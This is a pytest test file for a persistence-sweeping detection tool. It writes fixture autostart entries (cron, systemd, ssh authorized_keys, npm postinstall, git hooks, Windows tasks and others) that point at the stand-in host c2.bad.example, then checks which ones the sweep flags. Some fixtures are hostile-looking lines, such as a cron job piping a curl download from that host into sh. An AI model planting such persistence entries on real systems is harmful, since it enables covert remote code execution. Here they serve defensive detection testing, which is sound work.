"""What starts by itself: read from each kind of place, listed as context, an alarm only where an indicator is named."""

from pathlib import Path

import pytest

from beartrap.flows.sweep import Asked, sweep
from beartrap.model.finding import Severity
from beartrap.share.swept import SweptView

PLACES = {
    "etc/systemd/system/agent.service": ("systemd", "[Service]\nExecStart=/opt/agent --to c2.bad.example\n"),
    "etc/crontab": ("cron", "# c2.bad.example\n* * * * * root curl https://c2.bad.example/x | sh\n"),
    "etc/ld.so.preload": ("preload", "/lib/evil.so\n"),
    "usr/lib/python3/site-packages/run.pth": ("python", "import os; os.system('c2.bad.example')\n./plain\n"),
    "srv/node_modules/a/package.json": ("npm", '{"name": "a", "scripts": {"postinstall": "node c2.bad.example"}}'),
    "srv/.git/hooks/post-commit": ("git", "#!/bin/sh\ncurl c2.bad.example\n"),
    "home/u/.config/autostart/x.desktop": ("desktop", "[Desktop Entry]\nExec=/opt/x c2.bad.example\n"),
    "home/u/.ssh/authorized_keys": ("ssh", 'command="curl c2.bad.example" ssh-ed25519 AAAA me\n'),
    "etc/udev/rules.d/1.rules": ("udev", 'ACTION=="add", RUN+="/bin/x c2.bad.example"\n'),
    "etc/modprobe.d/x.conf": ("modules", "install net /bin/x c2.bad.example\n"),
    "etc/profile.d/x.sh": ("login", "curl c2.bad.example\n"),
    "Windows/System32/Tasks/x": (
        "task", '<Task><Actions><Exec><Command>curl</Command><Arguments>c2.bad.example</Arguments></Exec></Actions></Task>'
    ),
}  # fmt: skip


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    (tmp_path / "iocs.txt").write_text("c2.bad.example\nother.bad.example\n")
    for name, (_, content) in PLACES.items():
        target = tmp_path / "tree" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(content)
    return tmp_path / "tree"


def swept(tree: Path) -> SweptView:
    result = sweep(Asked(places=(str(tree),), indicators=(tree.parent / "iocs.txt",), workers=1))
    return SweptView(result.view, result.labels)


def test_every_place_is_read_and_names_the_indicator(tree: Path) -> None:
    found = [kept.record for kept in swept(tree).findings if kept.record.detector == "sweep.persistence"]
    alarms = {one.facts.get("mechanism") for one in found if one.severity > Severity.INFO}
    listed = {one.facts.get("mechanism") for one in found if one.severity == Severity.INFO}
    assert listed == {mechanism for mechanism, _ in PLACES.values()}
    assert alarms == listed - {"preload"}, "the preloaded library names no indicator: a near miss"
    assert not any(one.confirmed for one in found)


def test_what_starts_is_no_alarm_by_itself(tree: Path) -> None:
    (tree.parent / "iocs.txt").write_text("elsewhere.bad.example\n")
    assert swept(tree).exit_code() == 0


def test_a_hive_that_cannot_be_read_is_a_gap(tree: Path) -> None:
    (tree / "Users/u").mkdir(parents=True)
    (tree / "Users/u/NTUSER.DAT").write_bytes(b"regf" + bytes(5000))
    assert any("NTUSER.DAT" in gap.why for gap in swept(tree).gaps)
